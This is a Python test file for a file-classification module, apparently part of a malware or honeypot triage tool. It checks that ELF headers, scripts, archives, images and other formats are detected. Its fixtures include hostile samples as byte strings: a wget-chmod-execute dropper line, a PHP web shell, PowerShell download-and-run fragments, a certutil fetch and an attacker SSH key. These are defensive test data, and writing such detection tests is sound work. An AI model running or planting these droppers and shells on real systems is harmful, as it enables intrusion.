from __future__ import annotations

import gzip
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from urltrap.analysis import analyse, read_elf

SHA = "a" * 64


def kind(head: bytes, magic: tuple[str, str] = ("", "")) -> str:
    return analyse(head, len(head), SHA, magic).kind


def elf(bits: int, little: bool, machine: int, kind_: int = 2) -> bytes:
    order = "little" if little else "big"
    head = b"\x7fELF" + bytes([1 if bits == 32 else 2, 1 if little else 2, 1]) + bytes(9)
    return head + kind_.to_bytes(2, order) + machine.to_bytes(2, order) + bytes(40)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("bits", "little", "machine", "name"),
    [
        (32, True, 3, "x86"), (64, True, 62, "x86-64"), (32, True, 8, "mips"), (32, False, 8, "mips"),
        (32, True, 40, "arm"), (64, True, 183, "aarch64"), (32, False, 20, "powerpc"), (32, False, 2, "sparc"),
        (32, False, 4, "m68k"), (32, True, 42, "superh"), (32, True, 93, "arc"), (64, True, 243, "riscv"),
        (32, True, 4711, "machine-4711"),
    ],
)  # fmt: skip
def test_the_elf_header_is_read_in_both_byte_orders(bits: int, little: bool, machine: int, name: str) -> None:
    found = analyse(elf(bits, little, machine), 64, SHA)
    assert (found.kind, found.architecture, found.bits) == ("elf", name, bits)
    assert found.endian == ("little" if little else "big")


@pytest.mark.parametrize("length", range(4, 20))
def test_a_truncated_elf_file_is_an_elf_file_of_unknown_machine(length: int) -> None:
    header = read_elf(elf(32, True, 8)[:length])
    assert header is not None and header.machine == "" and header.machine_number is None
    assert header.bits == (32 if length > 4 else None)
    assert header.endian == ("little" if length > 5 else "")


def test_an_elf_file_with_a_hostile_class_is_still_one() -> None:
    head = b"\x7fELF\xff\xff" + b"\xff" * 30
    assert analyse(head, 36, SHA).kind == "elf"
    assert analyse(head, 36, SHA).architecture == ""


@pytest.mark.parametrize(
    ("head", "interpreter"),
    [
        (b"#!/bin/sh\nid\n", "sh"),
        (b"#! /usr/bin/env python3\nimport os\n", "python3"),
        (b"#!/usr/bin/perl -w\n", "perl"),
        (b"#!/tmp/.hidden/thing\n", "unknown"),
        (b"cd /tmp || cd /var/run; wget http://x/a; chmod 777 a; ./a\n", "sh"),
        (b"<?php system($_GET['c']); ?>", "php"),
        (b"import os\nimport socket\ndef main():\n    pass\n", "python"),
        (b"$c = New-Object Net.WebClient\nInvoke-Expression $c\nIEX $c\n", "powershell"),
        (b"@echo off\r\ncertutil -urlcache\r\n", "batch"),
        (b"use strict;\nuse IO::Socket;\nmy $x;\n", "perl"),
    ],
)
def test_scripts_are_told_from_text(head: bytes, interpreter: str) -> None:
    found = analyse(head, len(head), SHA)
    assert (found.kind, found.interpreter) == ("script", interpreter)


def test_other_kinds() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a", "b")
    assert kind(archive.getvalue()) == "archive"
    assert kind(gzip.compress(b"x")) == "archive"
    assert kind(bytes(257) + b"ustar\x0000") == "archive"
    assert kind(b"\x89PNG\r\n\x1a\n....") == "image"
    assert kind(b"  <!DOCTYPE HTML><html>") == "html"
    assert kind(b"<html><script>cd /tmp; wget x; chmod +x y</script>") == "html"
    assert kind(b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0") == "pe"
    assert kind(b"MZ not a program " + bytes(47) + bytes(100)) == "data"
    assert kind(b"") == "empty"
    assert kind(b"Just words, and nothing to run. " * 20) == "text"
    assert kind("Grüße".encode() * 2000) == "text"
    assert kind(bytes(range(256))) == "data"
    assert kind(b"plain", ("text/html", "")) == "html"
    assert kind(b"plain", ("image/svg+xml", "")) == "image"


def test_a_config_or_a_key_is_text_and_not_a_script() -> None:
    assert kind(b'{"pools": [{"url": "pool.example:3333"}]}') == "text"
    assert kind(b"ssh-rsa AAAAB3NzaC1yc2E attacker@host\n") == "text"
    assert kind(b"My dear friend,\nplease echo this.\n") == "text"


@given(st.binary(max_size=400), st.text(max_size=20))
def test_any_bytes_are_of_some_kind(head: bytes, mime: str) -> None:
    found = analyse(head, len(head), SHA, (mime, "x"))
    assert found.kind in {"elf", "script", "archive", "html", "text", "image", "pe", "empty", "data"}
    assert found.mime == mime


@given(st.binary(max_size=60))
def test_any_continuation_of_an_elf_magic_is_read(tail: bytes) -> None:
    assert read_elf(b"\x7fELF" + tail) is not None
